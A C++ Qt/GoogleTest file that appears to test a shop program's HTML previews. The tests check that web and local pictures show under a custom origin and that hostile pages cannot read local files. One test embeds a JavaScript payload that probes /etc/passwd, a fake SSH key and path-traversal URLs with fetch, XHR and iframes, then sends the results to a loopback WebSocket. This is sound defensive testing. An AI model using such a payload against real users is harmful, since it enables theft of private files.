// The program's previews in the real web engine (run under Xvfb), shown from
// the program's own origin: pictures from the web and local pictures named by
// their path show, as in the shop; a hostile page reads no local file.
#include "core/files.h"
#include "core/origin.h"
#include "core/shoppreview.h"
#include "tests/generators/carousels/page_files.h"
#include "tests/support/engine.h"
#include "tests/support/helpers.h"
#include "tests/tools/images/engine_platform.h"
#include "tests/tools/images/picture_server.h"

#include <QCryptographicHash>
#include <QElapsedTimer>
#include <QImage>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineView>
#include <gtest/gtest.h>

namespace {

using testing::evaluate;
using testing::loaded;
using testing::waitUntil;


// "name:naturalWidth" of the page's pictures whose address holds `marker`.
QString widthsOf(core::Browser* browser, const QString& marker) {
    const QString script = QStringLiteral(
                               "Array.from(document.images).filter(function(i){return i.src.indexOf('%1')>=0;})"
                               ".map(function(i){return i.src.split('/').pop()+':'+i.naturalWidth;}).join(' ')")
                               .arg(marker);
    return evaluate(browser, script).toString();
}

// A loopback WebSocket server that keeps every text message it receives.
class WebSocketServer : public QObject {
public:
    WebSocketServer() {
        m_server.listen(QHostAddress::LocalHost, 0);
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = m_server.nextPendingConnection()) {
                auto buffer = std::make_shared<QByteArray>();
                auto open = std::make_shared<bool>(false);
                connect(socket, &QTcpSocket::readyRead, this, [this, socket, buffer, open] {
                    *buffer += socket->readAll();
                    if (!*open) {
                        const qsizetype end = buffer->indexOf("\r\n\r\n");
                        if (end < 0) return;
                        QByteArray key;
                        for (const QByteArray& line : buffer->left(end).split('\n'))
                            if (line.toLower().startsWith("sec-websocket-key:")) key = line.mid(18).trimmed();
                        const QByteArray accept =
                            QCryptographicHash::hash(key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11",
                                                     QCryptographicHash::Sha1)
                                .toBase64();
                        socket->write("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                                      "Connection: Upgrade\r\nSec-WebSocket-Accept: " +
                                      accept + "\r\n\r\n");
                        buffer->remove(0, end + 4);
                        *open = true;
                    }
                    readFrames(*buffer);
                });
            }
        });
    }
    int port() const { return m_server.serverPort(); }
    QByteArray received;

private:
    void readFrames(QByteArray& buffer) {
        while (buffer.size() >= 2) {
            const auto* b = reinterpret_cast<const uchar*>(buffer.constData());
            qsizetype length = b[1] & 0x7F, at = 2;
            if (length == 126) {
                if (buffer.size() < 4) return;
                length = (b[2] << 8) | b[3];
                at = 4;
            } else if (length == 127) {
                if (buffer.size() < 10) return;
                length = 0;
                for (int i = 0; i < 8; ++i) length = (length << 8) | b[2 + i];
                at = 10;
            }
            const bool masked = b[1] & 0x80;
            const qsizetype start = at + (masked ? 4 : 0);
            if (buffer.size() < start + length) return;
            QByteArray payload = buffer.mid(start, length);
            if (masked)
                for (qsizetype i = 0; i < payload.size(); ++i) payload[i] = payload[i] ^ buffer[at + i % 4];
            received += payload + '\n';
            buffer.remove(0, start + length);
        }
    }
    QTcpServer m_server;
};

// Windows live as long as the program, and keep their browsers and the
// working folder they were made in: one of each for all the tests here.
testing::EnginePlatform& enginePlatform() {
    static auto* engine = new testing::EnginePlatform;
    return *engine;
}

testing::ScratchCurrentFolder& workingFolder() {
    static auto* folder = new testing::ScratchCurrentFolder;
    QDir().mkpath(folder->path() + "/files");
    return *folder;
}

// The windows with their real browsers, a picture on a loopback web server
// and a local picture outside the program's folders, named by its path.
class OriginPreviews : public testing::ProgramTest {
protected:
    void SetUp() override {
        testing::ProgramTest::SetUp();
        QImage picture(64, 32, QImage::Format_RGB32);
        picture.fill(Qt::darkCyan);
        ASSERT_TRUE(picture.save(web.path() + "/web.png"));
        ASSERT_TRUE(picture.save(mine.path() + "/local.png"));
        ASSERT_TRUE(server.running());
        core::setPlatform(&engine);
    }
    void TearDown() override {
        core::setPlatform(&testing::fakePlatform());
        testing::ProgramTest::TearDown();
    }
    QString webPicture() const { return server.base() + "/files/web.png"; }
    QString localPicture() const { return mine.path() + "/local.png"; }
    // Both pictures show in the browser's page, and the web server was asked.
    void expectPictures(core::Browser* browser, const QString& local) {
        ASSERT_NE(browser, nullptr);
        EXPECT_TRUE(waitUntil(browser, "Array.from(document.images).filter(function(i){return "
                                       "/(web|local)\\.png$/.test(i.src) && i.complete && i.naturalWidth > 0;})"
                                       ".length >= 2"))
            << widthsOf(browser, ".png").toStdString();
        EXPECT_EQ(widthsOf(browser, "web.png"), "web.png:64");
        const QStringList locals = widthsOf(browser, "local.png").split(' ');
        EXPECT_FALSE(locals.isEmpty());
        for (const QString& width : locals) EXPECT_EQ(width, "local.png:64") << local.toStdString();
        EXPECT_GT(server.hits(webPicture()), 0);
        EXPECT_EQ(evaluate(browser, "location.protocol").toString(), "qingwu:");
    }

    QTemporaryDir web;
    QTemporaryDir mine;
    testing::PictureServer server{web.path()};
    testing::EnginePlatform& engine = enginePlatform();
    testing::ScratchCurrentFolder& folder = workingFolder();
};

TEST_F(OriginPreviews, TheHtmlEditorsLiveView) {
    core::Form* w = testing::form("TFrmhtml");
    w->showForm();
    for (const QString& local : {localPicture(), QUrl::fromLocalFile(localPicture()).toString()}) {
        SCOPED_TRACE(local.toStdString());
        w->setText("redtmome", QStringLiteral("<html><body><p>预览</p><img src=\"%1\"><img src=\"%2\"></body></html>")
                                   .arg(webPicture(), local));
        w->fire("actyuExecute");
        core::Browser* browser = engine.madeIn(w);
        ASSERT_NE(browser, nullptr);
        ASSERT_TRUE(loaded(browser));
        expectPictures(browser, local);
    }
    w->hide();
}

TEST_F(OriginPreviews, TheShopPreviewInItsEditionFrame) {
    core::Form* w = testing::form("Tfrmzuobiaoqian");
    w->showForm();
    ASSERT_TRUE(w->fire("btn1Click"));
    const QString box = w->property("deliveredBox").toString();
    ASSERT_FALSE(box.isEmpty());
    w->setText(box, QStringLiteral("<div><img src=\"%1\"><img src=\"%2\"></div>")
                        .arg(webPicture(), QUrl::fromLocalFile(localPicture()).toString()));
    ASSERT_TRUE(w->fire(core::kShopPreviewButton + "Click"));
    core::Browser* browser = engine.madeIn(core::shopPreviewWindow());
    ASSERT_NE(browser, nullptr);
    ASSERT_TRUE(loaded(browser));
    expectPictures(browser, localPicture());
    // The frame's style sheet, addressed in "files", applies too.
    EXPECT_NE(evaluate(browser, "document.styleSheets.length").toInt(), 0);
    EXPECT_TRUE(waitUntil(browser, "Array.from(document.styleSheets).some(function(s){"
                                   "try{return s.cssRules.length>0;}catch(e){return false;}})"));
    core::shopPreviewWindow()->hide();
    w->hide();
}

TEST_F(OriginPreviews, TheDescriptionAssistant) {
    core::Form* w = testing::form("Tfrmmain");
    w->showForm();
    ASSERT_TRUE(w->fire("btnzhanshiClick"));
    w->setText("cbb3", "3");
    w->setText("mmozhanshi", webPicture() + "|" + localPicture() + "|" + QUrl::fromLocalFile(localPicture()).toString());
    core::Browser* browser = engine.madeIn(w);
    ASSERT_NE(browser, nullptr);
    ASSERT_TRUE(w->fire("btn1Click"));
    ASSERT_TRUE(waitUntil(browser, "location.href.indexOf('file.html') >= 0"));
    expectPictures(browser, localPicture());
    w->hide();
}

TEST_F(OriginPreviews, TheHotspotPage) {
    core::Form* w = testing::form("Tfrmredian");
    w->showForm();
    w->fire("imgl2Click");
    core::Browser* browser = nullptr;
    for (const QString& picture : {webPicture(), localPicture()}) {
        SCOPED_TRACE(picture.toStdString());
        w->setText("edt1", picture);
        w->setText("cbb1", "400");
        w->setText("edt2", "200");
        w->fire("btn1Click");
        browser = engine.madeIn(w);
        ASSERT_NE(browser, nullptr);
        ASSERT_TRUE(loaded(browser));
        EXPECT_TRUE(waitUntil(browser, "document.images.length > 0 && document.images[0].naturalWidth === 64"))
            << widthsOf(browser, ".png").toStdString();
        w->fire("btn7Click");
        ASSERT_TRUE(loaded(browser));
        EXPECT_TRUE(waitUntil(browser, "location.href.indexOf('%E7%83%AD%E7%82%B9.html') >= 0 && "
                                       "document.images.length > 0 && document.images[0].naturalWidth === 64"))
            << evaluate(browser, "location.href").toString().toStdString();
    }
    EXPECT_GT(server.hits(webPicture()), 0);
    w->hide();
}

// A template from a forum, previewed in the HTML editor, tries every way to a
// local file and sends what it found to a WebSocket server.
TEST_F(OriginPreviews, AHostilePageInTheHtmlEditorReadsNoLocalFile) {
    QTemporaryDir home;
    const QByteArray secret = "SECRET-KEY-0f1e2d3c";
    {
        QFile file(home.path() + "/id_rsa.txt");
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(secret);
    }
    const QString secretPath = home.path() + "/id_rsa.txt";
    // Files of the program's folder that are no page's business either.
    core::writeTextFile(core::programFolder() + "/index.txt", "FAVOURITES-5a6b");
    core::writeTextFile(folder.path() + "/index.txt", "FAVOURITES-5a6b");
    WebSocketServer sink;

    const QStringList targets = {
        "file:///etc/passwd",
        QUrl::fromLocalFile(secretPath).toString(),
        secretPath,
        "../../../../../../../../etc/passwd",
        "../../../../../../../.." + secretPath,
        "qingwu://app/../../../../../etc/passwd",
        "qingwu://picture" + secretPath,
        "qingwu://picture/etc/passwd",
        "qingwu://app/index.txt",
        "../index.txt",
    };
    QString list;
    for (const QString& target : targets) list += (list.isEmpty() ? "" : ",") + QStringLiteral("'%1'").arg(target);
    const QString page = QStringLiteral(R"(<html><body><p>模板</p><script>
var found = {}, targets = [%1];
function note(k, v) { found[k] = String(v || '').slice(0, 200); }
targets.forEach(function (t, n) {
  try { fetch(t).then(function (r) { return r.text(); }).then(function (x) { note('fetch' + n, x); },
        function () { note('fetch' + n, ''); }); } catch (e) { note('fetch' + n, ''); }
  try { var x = new XMLHttpRequest(); x.open('GET', t);
        x.onload = function () { note('xhr' + n, x.responseText); };
        x.onerror = function () { note('xhr' + n, ''); }; x.send(); } catch (e) { note('xhr' + n, ''); }
  var f = document.createElement('iframe'); f.src = t;
  f.onload = function () { try { note('frame' + n, f.contentDocument.body.innerText); }
                           catch (e) { note('frame' + n, ''); } };
  document.body.appendChild(f);
});
setTimeout(function () {
  var s = new WebSocket('ws://127.0.0.1:%2/');
  s.onopen = function () { s.send('hello ' + JSON.stringify(found)); window.sent = true; };
}, 3000);
</script></body></html>)")
                             .arg(list)
                             .arg(sink.port());
    core::Form* w = testing::form("TFrmhtml");
    w->showForm();
    w->setText("redtmome", page);
    w->fire("actyuExecute");
    core::Browser* browser = engine.madeIn(w);
    ASSERT_NE(browser, nullptr);
    ASSERT_TRUE(loaded(browser));
    ASSERT_TRUE(waitUntil(browser, "window.sent === true", 20000));
    QElapsedTimer clock;
    clock.start();
    while (!sink.received.contains("hello") && clock.elapsed() < 10000) QTest::qWait(50);

    // The channel works, and carries nothing of any file.
    EXPECT_TRUE(sink.received.startsWith("hello ")) << sink.received.toStdString();
    for (const QByteArray& leaked : {secret, QByteArray("root:"), QByteArray("FAVOURITES-5a6b")})
        EXPECT_FALSE(sink.received.contains(leaked)) << sink.received.toStdString();
    const QString found = evaluate(browser, "JSON.stringify(found)").toString();
    for (const QByteArray& leaked : {secret, QByteArray("root:"), QByteArray("FAVOURITES-5a6b")})
        EXPECT_FALSE(found.toUtf8().contains(leaked)) << found.toStdString();
    w->hide();
}

// A page from the web shown in a program's browser (the image downloader's)
// gets none of the user's pictures, by the origin nor by file: address.
TEST_F(OriginPreviews, APageFromTheWebGetsNothingFromTheOrigin) {
    QFile page(web.path() + "/web.html");
    ASSERT_TRUE(page.open(QIODevice::WriteOnly));
    page.write(QStringLiteral("<html><body><img id=\"web\" src=\"web.png\"><img id=\"mine\" src=\"%1\">"
                              "<img id=\"path\" src=\"%2\"></body></html>")
                   .arg(core::originAddress(localPicture()).toString(QUrl::FullyEncoded),
                        QUrl::fromLocalFile(localPicture()).toString(QUrl::FullyEncoded))
                   .toUtf8());
    page.close();
    QWidget host;
    host.resize(800, 600);
    core::Browser* browser = engine.createBrowser(&host);
    host.show();
    browser->navigate(server.base() + "/files/web.html");
    ASSERT_TRUE(loaded(browser));
    ASSERT_TRUE(waitUntil(browser, "document.getElementById('web').naturalWidth === 64"));
    QTest::qWait(500);
    EXPECT_EQ(evaluate(browser, "document.getElementById('mine').naturalWidth").toInt(), 0);
    EXPECT_EQ(evaluate(browser, "document.getElementById('path').naturalWidth").toInt(), 0);
    EXPECT_EQ(evaluate(browser, "typeof window.qingwuWidgets").toString(), "undefined");
}

} // namespace
